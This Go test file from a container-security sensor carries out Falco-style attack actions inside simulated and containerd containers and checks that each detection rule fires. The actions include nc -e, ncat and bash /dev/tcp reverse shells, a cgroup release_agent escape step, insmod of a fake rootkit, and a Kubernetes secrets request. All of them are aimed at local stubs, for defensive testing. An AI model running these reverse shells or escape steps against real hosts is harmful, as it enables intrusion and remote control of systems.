package agent

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/probehub/probehub/internal/testutil"
	"github.com/probehub/probehub/sensor/container"
	"github.com/probehub/probehub/sensor/container/containerdtest"
	"github.com/probehub/probehub/sensor/probe"
)

// The stable rules about containers, each raised by a real action inside a
// container, as an attacker (or Falco's event-generator) performs it:
//
//   - TestLiveStableContainerRules runs the actions in a container made by
//     hand: a cgroup laid out as containerd lays out a pod's container, its
//     own mount and pid namespaces (and network namespace where a pod has
//     one), the runtime's metadata from a map;
//   - TestLiveStableContainerdRules runs them in a privileged pod of a real
//     containerd: runc's process lineage, a tty from `ctr tasks exec -t`
//     (kubectl exec -it), the snapshotter's overlayfs root, and
//     container.privileged from the CRI.

// apiServerIP is the kubernetes service's ClusterIP in a cluster made with
// kubeadm's default service CIDR (10.96.0.0/12): what in-cluster clients
// connect to (KUBERNETES_SERVICE_HOST) and what the cluster DNS answers for
// kubernetes.default.svc.cluster.local.
const apiServerIP = "10.96.0.1"

// simContainer is a container made by hand (see TestLiveContainerRouting).
type simContainer struct {
	id string
	fd int // the container's cgroup directory, for CLONE_INTO_CGROUP
}

func newSimContainer(t *testing.T, id, podUID string) *simContainer {
	t.Helper()
	root := cgroup2Root(t)
	pod := "kubepods-burstable-pod" + strings.ReplaceAll(podUID, "-", "_") + ".slice"
	cg := filepath.Join(root, "kubepods.slice/kubepods-burstable.slice", pod, "cri-containerd-"+id+".scope")
	if err := os.MkdirAll(cg, 0o755); err != nil {
		testutil.SkipOrFail(t, fmt.Sprintf("create cgroup %s: %v", cg, err))
	}
	t.Cleanup(func() { removeCgroup(filepath.Join(root, "kubepods.slice")) })
	fd, err := unix.Open(cg, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.Close(fd) })
	return &simContainer{id: id, fd: fd}
}

// command returns cmd to run as the container's process: born in its
// cgroup, in new mount and pid namespaces plus extra (e.g. CLONE_NEWNET).
func (c *simContainer) command(extra uintptr, name string, args ...string) *exec.Cmd {
	cmd := exec.Command(name, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: c.fd, Cloneflags: unix.CLONE_NEWNS | unix.CLONE_NEWPID | extra}
	return cmd
}

// helper returns the test binary running containerHelperAction(action) in
// the container.
func (c *simContainer) helper(extra uintptr, action string, env ...string) *exec.Cmd {
	cmd := c.command(extra, os.Args[0], "-test.run=^TestHelperProcess$")
	cmd.Env = append(append(os.Environ(), "PROBEHUB_HELPER="+action), env...)
	return cmd
}

// runCmd runs an action's command; one that has not ended after
// testutil.Patience (a shell waiting for input that never comes) is
// killed and fails the test.
func runCmd(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	out := &testutil.SyncBuffer{}
	cmd.Stdout, cmd.Stderr = out, out
	// A process it left behind holding the output open (a reverse
	// shell's child) must not hold the test once it was killed.
	cmd.WaitDelay = 5 * time.Second
	if err := cmd.Start(); err != nil {
		t.Errorf("%v: %v", cmd.Args, err)
		return
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Logf("%v: %v: %s", cmd.Args, err, out)
		}
	case <-time.After(testutil.Patience):
		_ = cmd.Process.Kill()
		<-done
		t.Errorf("%v did not end: killed; output: %s", cmd.Args, out)
	}
}

// attacker is the far end of a reverse shell: it accepts connections on
// 127.0.0.1 and tells each shell that connects to exit.
func attacker(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(testutil.Patience))
				_, _ = io.WriteString(c, "exit\n")
				_, _ = io.Copy(io.Discard, c)
			}()
		}
	}()
	return ln.Addr().String()
}

// clusterDNS runs dnsmasq on 127.0.0.1 as a cluster's DNS (CoreDNS) for the
// sensor: it answers kubernetes.default.svc.cluster.local with the API
// server's ClusterIP. It returns a resolver that asks it, as a sensor pod
// with dnsPolicy ClusterFirstWithHostNet asks the cluster DNS.
func clusterDNS(t *testing.T) *net.Resolver {
	t.Helper()
	bin := testutil.RequireTool(t, "dnsmasq")
	port := freeUDPPort(t)
	cmd := exec.Command(bin, "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
		"--listen-address=127.0.0.1", "--bind-interfaces", "--port="+strconv.Itoa(port), "--user=root",
		"--pid-file=", "--address=/kubernetes.default.svc.cluster.local/"+apiServerIP)
	out := &testutil.SyncBuffer{}
	cmd.Stdout, cmd.Stderr = out, out
	if err := cmd.Start(); err != nil {
		t.Fatalf("dnsmasq: %v", err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	addr := net.JoinHostPort("127.0.0.1", strconv.Itoa(port))
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, addr)
	}}
	for deadline := time.Now().Add(testutil.Patience); ; time.Sleep(50 * time.Millisecond) {
		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
		ips, err := r.LookupHost(ctx, "kubernetes.default.svc.cluster.local")
		cancel()
		if err == nil && len(ips) == 1 && ips[0] == apiServerIP {
			return r
		}
		if time.Now().After(deadline) {
			t.Fatalf("dnsmasq does not answer: %v %v\n%s", ips, err, out)
		}
	}
}

func freeUDPPort(t *testing.T) int {
	t.Helper()
	c, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	return c.LocalAddr().(*net.UDPAddr).Port
}

// TestLiveStableContainerRules performs the attacks the stable container
// rules describe inside a container made by hand, each as an attacker
// does it, and checks that the rule fires with the container's fields.
func TestLiveStableContainerRules(t *testing.T) {
	const id = "d0d0cafe0123456789abcdef0123456789abcdef0123456789abcdef01234567"
	meta := pods{id: {Name: "shop", PodName: "shop-5f7d", Namespace: "tenant-a", Image: "docker.io/library/alpine:3.20",
		ImageRepo: "docker.io/library/alpine", ImageTag: "3.20"}}
	dns := clusterDNS(t)
	ls := startLive(t, meta, func(c *Config) { c.Rules.Resolver = dns })
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := ls.ag.ResolveNames(ctx); err != nil {
		t.Fatalf("resolve the rules' host names: %v", err)
	}
	ctr := newSimContainer(t, id, "5f7d0000-1111-2222-3333-444455556666")
	far := attacker(t)
	host, port, _ := net.SplitHostPort(far)
	bb := busyboxApplets(t, "nc")
	ncat := testutil.RequireTool(t, "ncat")
	bash := testutil.RequireTool(t, "bash")
	testutil.RequireTool(t, "ip") // the pod network namespace's addresses (iproute2)
	common := map[string]any{"container.id": id[:12], "container.name": "shop",
		"container.image.repository": "docker.io/library/alpine", "k8s.ns.name": "tenant-a"}

	tests := []struct {
		desc, rule, marker string
		act                func(t *testing.T)
		fields             map[string]any
	}{
		{"in-cluster client connects to the API server's ClusterIP", "Contact K8S API Server From Container", "rport=443",
			func(t *testing.T) {
				runCmd(t, ctr.helper(unix.CLONE_NEWNET, "ctr-apiserver", "KUBERNETES_SERVICE_HOST="+apiServerIP, "KUBERNETES_SERVICE_PORT=443"))
			}, map[string]any{"fd.rport": float64(443), "fd.l4proto": "tcp"}},
		{"busybox nc -e /bin/sh reverse shell", "Netcat Remote Code Execution in Container", "command=nc " + host,
			func(t *testing.T) { runCmd(t, ctr.command(0, filepath.Join(bb, "nc"), host, port, "-e", "/bin/sh")) },
			map[string]any{"proc.name": "nc"}},
		{"ncat --sh-exec reverse shell", "Netcat Remote Code Execution in Container", "process=ncat",
			func(t *testing.T) { runCmd(t, ctr.command(0, ncat, "--sh-exec", "exec /bin/sh", host, port)) },
			map[string]any{"proc.name": "ncat"}},
		{"bash -i >& /dev/tcp reverse shell", "Redirect STDOUT/STDIN to Network Connection in Container", "fd.sip=" + host,
			func(t *testing.T) {
				c := ctr.command(0, bash, "-c", fmt.Sprintf("bash -i >& /dev/tcp/%s/%s 0>&1", host, port))
				c.Env = []string{"PATH=/usr/bin:/bin", "HOME=/nonexistent"} // no ~/.bashrc of the machine's
				runCmd(t, c)
			}, map[string]any{"fd.type": "ipv4", "fd.sip": host}},
		{"raw packet socket (ARP spoofing, CVE-2020-14386)", "Packet socket created in container", "domain=17(AF_PACKET)",
			func(t *testing.T) { runCmd(t, ctr.helper(0, "ctr-packet-socket")) }, nil},
		{"write a cgroup v1 release_agent", "Detect release_agent File Container Escapes", "release_agent",
			func(t *testing.T) { runCmd(t, ctr.helper(0, "ctr-release-agent")) }, nil},
		{"execute a binary dropped into the overlayfs upper layer", "Drop and execute new binary in container", "process=dropped",
			func(t *testing.T) { runCmd(t, ctr.helper(0, "ctr-drop-exec")) }, map[string]any{"proc.name": "dropped"}},
	}
	for _, tc := range tests {
		t.Run(tc.desc, func(t *testing.T) {
			a := ls.expect(t, ls.tenantA, tc.rule, tc.marker, func() { tc.act(t) })
			t.Logf("%s: %s", tc.rule, a.Output)
			wantFields(t, a, common)
			wantFields(t, a, tc.fields)
		})
	}
}

// TestLiveStableContainerKernelModule loads a kernel module from a
// container. A kernel built without CONFIG_MODULES (this project's
// development VM) has no init_module/finit_module tracepoints: the
// syscalls exist and fail with ENOSYS, and only the raw sys_exit hook sees
// them, as Falco's drivers do; there the sensor runs as `run --attach
// raw` would.
func TestLiveStableContainerKernelModule(t *testing.T) {
	const id = "feedface0123456789abcdef0123456789abcdef0123456789abcdef01234567"
	meta := pods{id: {Name: "driver", PodName: "driver-x2", Namespace: "tenant-a", Image: "docker.io/library/alpine:3.20",
		ImageRepo: "docker.io/library/alpine", ImageTag: "3.20"}}
	var popts probe.Options
	if !moduleTracepoints() {
		t.Log("no init_module/finit_module tracepoints in this kernel (CONFIG_MODULES off): hooking raw sys_exit")
		popts.Attach = probe.AttachRaw
	}
	ls := startLiveWith(t, meta, popts)
	ctr := newSimContainer(t, id, "a2b3c4d5-0000-1111-2222-333344445555")
	// busybox insmod, as in an alpine image: finit_module on the file,
	// then init_module on its bytes. The file is no module: the kernel
	// refuses it.
	insmod := filepath.Join(busyboxApplets(t, "insmod"), "insmod")
	ko := filepath.Join(t.TempDir(), "rootkit.ko")
	if err := os.WriteFile(ko, []byte("\x7fELF not a module"), 0o644); err != nil {
		t.Fatal(err)
	}
	a := ls.expect(t, ls.tenantA, "Linux Kernel Module Injection Detected", "module="+ko, func() { runCmd(t, ctr.command(0, insmod, ko)) })
	t.Logf("%s", a.Output)
	wantFields(t, a, map[string]any{"container.id": id[:12], "container.name": "driver", "k8s.ns.name": "tenant-a", "proc.name": "insmod"})
	if !strings.Contains(a.Output, "res=ENOSYS") && !strings.Contains(a.Output, "res=ENOEXEC") && !strings.Contains(a.Output, "res=EPERM") {
		t.Errorf("res is not the kernel's refusal: %s", a.Output)
	}
}

// moduleTracepoints reports whether the kernel has the module syscalls'
// exit tracepoints.
func moduleTracepoints() bool {
	for _, d := range []string{"/sys/kernel/tracing", "/sys/kernel/debug/tracing"} {
		if _, err := os.Stat(filepath.Join(d, "events/syscalls/sys_exit_finit_module")); err == nil {
			return true
		}
	}
	return false
}

// busyboxApplets returns a directory of links to the static busybox named
// after applets, as a busybox image's /bin has them.
func busyboxApplets(t *testing.T, applets ...string) string {
	t.Helper()
	bb := containerdtest.Busybox
	if _, err := os.Stat(bb); err != nil {
		testutil.SkipOrFail(t, "static busybox: "+err.Error()+": run `make setup` (busybox-static)")
	}
	dir := t.TempDir()
	for _, a := range applets {
		if err := os.Symlink(bb, filepath.Join(dir, a)); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// containerHelperAction performs the action named name as a process of a
// container (see simContainer.helper); TestHelperProcess calls it. It
// returns false when name is not one of its actions.
func containerHelperAction(name string) bool {
	var err error
	switch name {
	case "ctr-apiserver":
		err = apiServerClient()
	case "ctr-packet-socket":
		// What tcpdump or an ARP spoofer opens first.
		var fd int
		if fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL))); err == nil {
			unix.Close(fd)
		}
	case "ctr-release-agent":
		err = releaseAgent()
	case "ctr-drop-exec":
		err = dropAndExec()
	default:
		return false
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", name, err)
		os.Exit(2)
	}
	return true
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// apiServerClient is an in-cluster client (client-go's rest.InClusterConfig)
// talking to the API server at KUBERNETES_SERVICE_HOST:PORT. The pod's
// network namespace routes the ClusterIP to a server in the pod, as
// kube-proxy routes it to the API server.
func apiServerClient() error {
	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", apiServerIP + "/32", "dev", "lo"}} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			return fmt.Errorf("ip %v: %w: %s", args, err, out)
		}
	}
	ln, err := net.Listen("tcp4", net.JoinHostPort(apiServerIP, "443"))
	if err != nil {
		return err
	}
	defer ln.Close()
	go func() {
		if c, err := ln.Accept(); err == nil {
			_, _ = bufio.NewReader(c).ReadString('\n')
			_, _ = io.WriteString(c, "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
			c.Close()
		}
	}()
	c, err := net.Dial("tcp", net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT")))
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET /api/v1/secrets HTTP/1.1\r\nHost: kubernetes.default.svc\r\n\r\n"); err != nil {
		return err
	}
	_, err = bufio.NewReader(c).ReadString('\n')
	return err
}

// privateMounts makes this mount namespace's mounts private, so that what
// an action mounts stays in the container.
func privateMounts() error {
	return unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
}

// releaseAgent mounts a cgroup v1 hierarchy and opens its release_agent
// for writing, the first step of the release_agent escape (CVE-2022-0492).
// A named hierarchy works on a cgroup2 host too; nothing is written and no
// cgroup has notify_on_release, so no agent ever runs.
func releaseAgent() error {
	if err := privateMounts(); err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "cgrp")
	if err != nil {
		return err
	}
	defer os.Remove(dir)
	if err := unix.Mount("cgroup", dir, "cgroup", 0, fmt.Sprintf("none,name=probehub%d", os.Getpid())); err != nil {
		return fmt.Errorf("mount cgroup v1: %w", err)
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	f, err := os.OpenFile(filepath.Join(dir, "release_agent"), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	return f.Close()
}

// dropAndExec builds a container root as a snapshotter does (an overlayfs:
// the image's layer below, the container's writable layer above), drops a
// binary into it (it lands in the upper layer) and executes it.
func dropAndExec() error {
	if err := privateMounts(); err != nil {
		return err
	}
	root, err := os.MkdirTemp("", "snap")
	if err != nil {
		return err
	}
	defer os.RemoveAll(root)
	if err := unix.Mount("tmpfs", root, "tmpfs", 0, ""); err != nil {
		return err
	}
	defer unix.Unmount(root, unix.MNT_DETACH)
	d := map[string]string{}
	for _, n := range []string{"lower", "upper", "work", "rootfs"} {
		d[n] = filepath.Join(root, n)
		if err := os.Mkdir(d[n], 0o755); err != nil {
			return err
		}
	}
	if err := unix.Mount("overlay", d["rootfs"], "overlay", 0, "lowerdir="+d["lower"]+",upperdir="+d["upper"]+",workdir="+d["work"]); err != nil {
		return fmt.Errorf("mount overlay: %w", err)
	}
	b, err := os.ReadFile("/bin/true")
	if err != nil {
		return err
	}
	exe := filepath.Join(d["rootfs"], "dropped")
	if err := os.WriteFile(exe, b, 0o755); err != nil {
		return err
	}
	out, err := exec.Command(exe).CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s: %w: %s", exe, err, out)
	}
	return nil
}

// TestLiveStableContainerdRules runs the stable container rules' attacks in
// a privileged pod of a real containerd (the way event-generator runs, in a
// privileged container), with the production CRI cache: kubectl exec -it's
// shell under runc with a tty, debugfs where container.privileged is true,
// busybox's nc -e reverse shell, arping's packet socket, insmod, and a
// binary copied into the snapshotter's overlayfs root and run.
func TestLiveStableContainerdRules(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.SharedData(t, "falco_rules.yaml")
	script := testutil.RequireTool(t, "script")
	ctrBin := testutil.RequireTool(t, "ctr")
	rt := containerdtest.Start(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	const image = "probehub.test/toolbox:1.0"
	cmd := []string{"/bin/sleep", "2147483647"}
	rt.Import(ctx, image, containerdtest.BusyboxImage(t, cmd, map[string]containerdtest.File{
		"lib/modules/rootkit.ko": {Data: []byte("\x7fELF not a module"), Mode: 0o644},
	}))
	k := container.NewCRICache(ctx, container.CRIOptions{Sockets: []string{rt.Socket}, ContainerdRoot: rt.Root})
	t.Cleanup(func() { k.Close() })
	var popts probe.Options
	if !moduleTracepoints() { // see TestLiveStableContainerKernelModule
		t.Log("no init_module/finit_module tracepoints in this kernel (CONFIG_MODULES off): hooking raw sys_exit")
		popts.Attach = probe.AttachRaw
	}
	ls := startLiveWith(t, k, popts)
	pod := containerdtest.Pod{Name: "toolbox-0", Namespace: "tenant-a", UID: "7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d",
		Container: containerdtest.Container{Name: "toolbox", Image: image, Command: cmd, Privileged: true}}
	run := rt.RunPod(ctx, pod)
	id := run.ContainerID[:12]
	containerdtest.AwaitMetadata(t, k, run)
	inPod := func(t *testing.T, cmd ...string) {
		t.Helper()
		if stdout, stderr, code, err := rt.Exec(ctx, run.ContainerID, cmd...); err != nil {
			t.Fatal(err)
		} else if code != 0 {
			t.Logf("%v: exit %d: %s%s", cmd, code, stdout, stderr)
		}
	}
	far := attacker(t)
	host, port, _ := net.SplitHostPort(far)
	n := 0
	tests := []struct {
		desc, rule, marker string
		act                func(t *testing.T)
		fields             map[string]any
	}{
		{"kubectl exec -it: a shell on a tty", "Terminal shell in container", "process=sh",
			func(t *testing.T) {
				// ctr tasks exec -t is what kubelet asks of containerd for
				// kubectl exec -it; script(1) gives ctr the terminal a
				// user's kubectl would have.
				n++
				line := fmt.Sprintf("%s --address %s -n %s tasks exec -t --exec-id probehub-tty-%d %s /bin/sh -c 'exit 0'",
					ctrBin, rt.Socket, containerdtest.Namespace, n, run.ContainerID)
				c := exec.Command(script, "-qec", line, "/dev/null")
				c.Env = append(os.Environ(), "SHELL=/bin/sh")
				runCmd(t, c)
			}, map[string]any{"proc.name": "sh"}},
		{"debugfs in a privileged container", "Debugfs Launched in Privileged Container", "process=debugfs",
			func(t *testing.T) { inPod(t, "/bin/debugfs") }, map[string]any{"proc.name": "debugfs"}},
		{"debugfs in new user and mount namespaces (as event-generator runs it)", "Debugfs Launched in Privileged Container", "command=debugfs /dev/sda1",
			func(t *testing.T) { inPod(t, "/bin/unshare", "-U", "-m", "/bin/debugfs", "/dev/sda1") }, map[string]any{"proc.name": "debugfs"}},
		{"busybox nc -e /bin/sh reverse shell", "Netcat Remote Code Execution in Container", "process=nc",
			func(t *testing.T) { inPod(t, "/bin/nc", host, port, "-e", "/bin/sh") }, map[string]any{"proc.name": "nc"}},
		{"nc -e dups the socket onto stdin", "Redirect STDOUT/STDIN to Network Connection in Container", "process=nc",
			func(t *testing.T) { inPod(t, "/bin/nc", host, port, "-e", "/bin/sh") }, map[string]any{"fd.type": "ipv4"}},
		{"arping opens a packet socket", "Packet socket created in container", "AF_PACKET",
			func(t *testing.T) { inPod(t, "/bin/arping", "-c", "1", "-w", "1", "-I", "lo", "127.0.0.1") }, nil},
		{"insmod of a module", "Linux Kernel Module Injection Detected", "rootkit.ko",
			func(t *testing.T) { inPod(t, "/bin/insmod", "/lib/modules/rootkit.ko") }, nil},
		{"a file named release_agent written by a privileged container's root", "Detect release_agent File Container Escapes", "file=/tmp/release_agent",
			func(t *testing.T) { inPod(t, "/bin/sh", "-c", "echo /escape.sh > /tmp/release_agent") }, map[string]any{"proc.name": "sh"}},
		{"a binary written into the container and run", "Drop and execute new binary in container", "process=payload",
			func(t *testing.T) { inPod(t, "/bin/sh", "-c", "cp /bin/busybox /tmp/payload && /tmp/payload true") },
			map[string]any{"proc.name": "payload"}},
	}
	common := map[string]any{"container.id": id, "container.name": "toolbox", "container.image.repository": "probehub.test/toolbox",
		"container.image.tag": "1.0", "k8s.pod.name": pod.Name, "k8s.ns.name": pod.Namespace}
	for _, tc := range tests {
		t.Run(tc.desc, func(t *testing.T) {
			a := ls.expect(t, ls.tenantA, tc.rule, tc.marker, func() { tc.act(t) })
			t.Logf("%s: %s", tc.rule, a.Output)
			wantFields(t, a, common)
			wantFields(t, a, tc.fields)
		})
	}
}
